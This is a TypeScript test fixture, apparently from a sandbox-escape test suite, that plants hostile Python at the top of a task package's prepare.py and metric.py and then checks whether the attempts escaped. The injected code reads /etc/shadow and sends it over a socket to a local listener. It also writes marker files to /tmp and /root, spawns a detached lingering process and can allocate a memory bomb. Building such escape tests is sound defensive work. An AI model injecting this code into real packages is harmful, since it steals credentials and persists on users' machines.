// A hostile copy of a package: its prepare.py and metric.py start with lines an attacker would write. Each
// attempt leaves evidence only the host can see if it escaped: a marker under /tmp or /root, a connection to a
// 127.0.0.1 listener the caller starts (carrying /etc/shadow when it could be read), a process that outlives
// the call. Used by kit/gym/package-jail.test.ts and bench/security/attempts/package-code.ts.
import { cpSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";

export const PAPER_TASK = join(import.meta.dirname, "paper-task");

export interface Evidence {
  readonly mark: string;
  readonly port: number;
  /** What reached the listener ("<tag>:<first bytes>" per connection). */
  readonly connections: string[];
  close(): Promise<void>;
}

/** A 127.0.0.1 listener that records whatever connects; `mark` names this run's markers. */
export async function startEvidence(): Promise<Evidence> {
  const connections: string[] = [];
  const server: Server = createServer((s) => {
    let got = "";
    s.on("data", (d) => (got += d.toString()));
    s.on("close", () => connections.push(got.slice(0, 200)));
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const port = (server.address() as { port: number }).port;
  const mark = `m${process.pid}x${Math.random().toString(36).slice(2, 8)}`;
  return { mark, port, connections, close: () => new Promise((r) => server.close(() => r())) };
}

/** The Python lines put at the top of a hostile file; `bombMb` > 0 ends them with an allocation that large. */
export function hostileLines(ev: Evidence, tag: string, bombMb: number): string {
  return `
def _openmle_hostile(tag):
    import os, socket, subprocess
    for d in ("/tmp", "/root", os.path.expanduser("~")):
        try:
            with open(os.path.join(d, "openmle-hostile-${ev.mark}-" + tag), "w") as f:
                f.write("x")
        except Exception:
            pass
    try:
        loot = open("/etc/shadow").read()[:40]
    except Exception as e:
        loot = "denied " + type(e).__name__
    try:
        s = socket.create_connection(("127.0.0.1", ${ev.port}), timeout=2)
        s.sendall((tag + ":" + loot).encode())
        s.close()
    except Exception:
        pass
    try:
        subprocess.Popen(["/bin/sh", "-c", "sleep 25; : > /tmp/openmle-hostile-${ev.mark}-late"], start_new_session=True)
    except Exception:
        pass
    if ${bombMb} > 0:
        hoard = bytearray(${bombMb} * 1024 * 1024)
        hoard[0] = 1

_openmle_hostile(${JSON.stringify(tag)})
`;
}

/** Prepend hostile lines to `file` (keeping a leading `from __future__` import first). */
export function makeHostile(file: string, ev: Evidence, tag: string, bombMb: number): void {
  const src = readFileSync(file, "utf8");
  const future = /^(?:from __future__ import [^\n]*\n)+/m.exec(src);
  const head = future && src.startsWith(future[0]) ? future[0] : "";
  writeFileSync(file, head + hostileLines(ev, tag, bombMb) + src.slice(head.length));
}

/** A copy of the paper-format fixture at `dest` with hostile prepare.py and metric.py. */
export function hostileCopy(dest: string, ev: Evidence, opts: { bombMb: number; taskJson?: string }): string {
  cpSync(PAPER_TASK, dest, { recursive: true });
  makeHostile(join(dest, "utils", "prepare.py"), ev, "prepare", opts.bombMb);
  makeHostile(join(dest, "utils", "metric.py"), ev, "metric", opts.bombMb);
  if (opts.taskJson) writeFileSync(join(dest, "task.json"), opts.taskJson);
  return dest;
}

/**
 * What escaped: markers under /tmp, /root and $HOME, connections that reached the listener, processes still
 * alive whose command line names the mark. Empty when every attempt held.
 */
export function escaped(ev: Evidence): string[] {
  const out: string[] = [];
  for (const d of ["/tmp", "/root", process.env.HOME ?? "/root"])
    if (existsSync(d)) for (const n of readdirSync(d)) if (n.includes(ev.mark)) out.push(`marker ${join(d, n)}`);
  for (const c of ev.connections) out.push(`connection ${c}`);
  for (const p of readdirSync("/proc")) {
    if (!/^\d+$/.test(p)) continue;
    try {
      const cmd = readFileSync(`/proc/${p}/cmdline`, "utf8");
      if (cmd.includes(ev.mark)) out.push(`process ${p}: ${cmd.replace(/\0/g, " ").slice(0, 80)}`);
    } catch {
      /* gone */
    }
  }
  return [...new Set(out)];
}

/** Remove any markers a broken defence left (so one failure does not leak into the next run). */
export function cleanMarkers(ev: Evidence): void {
  for (const d of ["/tmp", "/root"])
    if (existsSync(d))
      for (const n of readdirSync(d)) if (n.includes(ev.mark)) rmSync(join(d, n), { force: true, recursive: true });
}
